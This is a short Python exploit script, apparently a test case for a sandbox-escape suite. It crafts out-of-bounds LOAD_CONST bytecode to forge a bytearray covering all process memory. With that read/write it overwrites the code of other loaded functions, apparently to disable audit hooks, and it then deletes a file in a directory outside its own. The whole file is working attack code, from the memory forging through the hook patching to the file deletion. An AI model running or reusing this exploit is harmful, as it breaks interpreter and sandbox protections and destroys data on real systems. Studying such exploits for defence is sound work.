# Bytecode that reads beyond its constants finds a forged object, which is all of the memory.
# damage: deleted
# needs: linux, x86_64, python<3.14
import dis
import gc
import os
import struct
import sys
import types

HEADER_OF_BYTES, HEADER_OF_TUPLE, EVERYTHING = 32, 24, 1 << 62


def harmless(event, arguments):
    pass


forged = struct.pack("7Q", 1 << 20, id(bytearray), EVERYTHING, EVERYTHING, 0, 0, 0)
pointer = struct.pack("Q", id(forged) + HEADER_OF_BYTES)
beyond = (id(pointer) + HEADER_OF_BYTES - id(harmless.__code__.co_consts) - HEADER_OF_TUPLE) // 8
code = [dis.opmap["RESUME"], 0] if "RESUME" in dis.opmap else []
for shift in (24, 16, 8):
    code += [dis.opmap["EXTENDED_ARG"], beyond >> shift & 255]
code += [dis.opmap["LOAD_CONST"], beyond & 255, dis.opmap["RETURN_VALUE"], 0]
reader = harmless.__code__.replace(co_code=bytes(code), co_stacksize=4)
memory = types.FunctionType(reader, {})(None, None)

body = struct.pack("Q", id(harmless.__code__))
place = bytes(memory[id(harmless) : id(harmless) + sys.getsizeof(harmless)]).index(body)
for function in [item for item in gc.get_objects() if isinstance(item, types.FunctionType)]:
    name = function.__code__.co_filename
    if not os.path.exists(name) and "frozen" not in name and function is not harmless:
        memory[id(function) + place : id(function) + place + 8] = body
os.unlink("../outside/victim.txt")
